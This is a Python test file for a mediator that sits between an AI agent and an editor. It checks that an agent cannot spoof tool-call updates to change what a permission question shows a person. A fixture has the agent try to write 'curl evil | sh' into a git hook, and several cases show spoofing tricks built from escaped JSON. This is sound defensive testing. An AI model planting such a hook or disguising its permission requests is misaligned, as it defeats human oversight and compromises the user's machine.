"""A question of Bailiwick's on an editor's screen: nobody but Bailiwick says what it shows."""

import json

import pytest

from tests.fronts.acp.wires import wires

pytestmark = [pytest.mark.spec("ACP-3"), pytest.mark.spec("ASK-1")]

OURS = "bailiwick-0123"
REPAINTED = {"toolCallId": OURS, "title": "write notes/todo.md"}


class Screen:
    """What an editor shows of tool calls: whoever knows an id changes it."""

    def __init__(self):
        self.calls = {}

    def hear(self, message):
        params = message["params"]
        told = params.get("update") or params.get("toolCall")
        self.calls.setdefault(told["toolCallId"], {}).update(told)


def line(method, params, **more):
    return json.dumps({"jsonrpc": "2.0", "method": method, "params": params, **more}).encode()


async def asked(between, request=1):
    """Have the agent write what a person is asked about; the question."""
    given = {"sessionId": "s", "path": "/.git/hooks/x", "content": "curl evil | sh"}
    await between.agent.say(line("fs/write_text_file", given, id=request) + b"\n")
    return await between.editor.hear_json()


def test_an_editor_shows_what_was_said_last():
    """Why it matters: with the id in hand, a question can be made to read like another."""
    screen = Screen()
    question = {"toolCallId": OURS, "title": "write .git/hooks/x"}
    screen.hear({"params": {"toolCall": question}})
    screen.hear({"params": {"update": {"sessionUpdate": "tool_call_update", **REPAINTED}}})
    assert screen.calls[OURS]["title"] == "write notes/todo.md"


async def test_a_question_is_known_by_nothing_that_an_agent_could_count():
    async with wires() as between:
        known = (await between.write("/a", "x"))["result"]["_meta"]["bailiwick"]["requestId"]
        ids = [
            (await asked(between, number))["params"]["toolCall"]["toolCallId"]
            for number in range(1, 4)
        ]
    assert len(set(ids)) == 3
    for each in ids:
        assert each.startswith("bailiwick-")
        assert len(each) == len("bailiwick-") + 32
        assert known.rpartition("-")[0] not in each
    # Nothing that one tells of the next: not even most of it.
    assert len({each[:20] for each in ids}) == 3


def update(**more):
    return {"sessionId": "s", "update": {"sessionUpdate": "tool_call_update", **REPAINTED, **more}}


REPAINTING = {
    "an update": line("session/update", update()),
    "a new call": line("session/update", update(sessionUpdate="tool_call")),
    "a question": line("session/request_permission", {"sessionId": "s", "toolCall": REPAINTED}),
    "a form": line("elicitation/create", {"sessionId": "s", "toolCallId": OURS}),
    "an escaped letter": line("session/update", update()).replace(b"bail", b"\\u0062ail"),
    "an escaped dash": line("session/update", update()).replace(b"wick-", b"wick\\u002D"),
    "an escaped name": line("session/update", update()).replace(b"CallId", b"C\\u0061llId"),
    "half a character beside it": line("session/update", update(more="\ud800")),
}

DISPUTED = {
    "another case": line("session/update", update()).replace(b"toolCallId", b"ToolCallId"),
    "two ids": line("session/update", update()).replace(
        b'"title"', b'"toolCallId": "own", "title"'
    ),
    "two updates": line("session/update", update())[:-2] + b', "update": {}}}',
    "a list of parameters": line("session/update", ["s", update()["update"]]),
    "a list for an update": line("session/update", {"update": ["tool_call_update", OURS]}),
}


@pytest.mark.parametrize("way", sorted(REPAINTING | DISPUTED))
async def test_no_word_of_an_agent_about_our_question_reaches_the_editor(way):
    code = -32600 if way in REPAINTING else -32700
    async with wires() as between:
        await between.agent.say((REPAINTING | DISPUTED)[way] + b"\n")
        answer = await between.agent.hear_json()
        assert (answer["id"], answer["error"]["code"]) == (None, code)
        await between.agent.say(b'{"method":"next"}\n')
        assert await between.editor.hear() == b'{"method":"next"}\n'
        assert len(between.said) == 1


async def test_a_request_that_is_refused_is_answered_by_its_id():
    given = {"sessionId": "s", "toolCall": REPAINTED}
    async with wires() as between:
        answer = await between.agent.request("session/request_permission", given, "mine")
        assert (answer["id"], answer["error"]["code"]) == ("mine", -32600)


HONEST = {
    "a call of its own": update(toolCallId="call-1"),
    "a text that speaks of ours": update(toolCallId="call-1", title=f'"toolCallId": "{OURS}"'),
    "a name that begins alike": update(toolCallId="bailiwick", rawInput={"x": "bailiwick-"}),
    "ours as somebody's data": update(toolCallId="call-1", rawInput=REPAINTED),
    "an id that is no text": update(toolCallId=7, title="bailiwick-"),
    "no parameters": None,
}


@pytest.mark.parametrize("way", sorted(HONEST))
async def test_what_an_agent_says_of_its_own_calls_passes_as_it_came(way):
    for said in (
        line("session/update", HONEST[way]) + b"\n",
        line("session/update", HONEST[way]).replace(b"bailiwick-", b"bailiwick\\u002d") + b"\n",
    ):
        async with wires() as between:
            await between.agent.say(said)
            assert await between.editor.hear() == said
            assert between.said == []


async def test_a_question_shows_what_is_done_however_an_agent_tries():
    async with wires() as between:
        screen = Screen()
        question = await asked(between)
        screen.hear(question)
        its = question["params"]["toolCall"]["toolCallId"]
        # Even an agent that was told the id.
        await between.agent.say(line("session/update", update(toolCallId=its)) + b"\n")
        assert (await between.agent.hear_json())["error"]["code"] == -32600
        own = line("session/update", update(toolCallId="own")) + b"\n"
        await between.agent.say(own)
        screen.hear(await between.editor.hear_json())
        assert screen.calls[its]["title"] == "write /.git/hooks/x"
        assert screen.calls["own"]["title"] == "write notes/todo.md"
        assert not await between.scope.exists(".git/hooks/x")
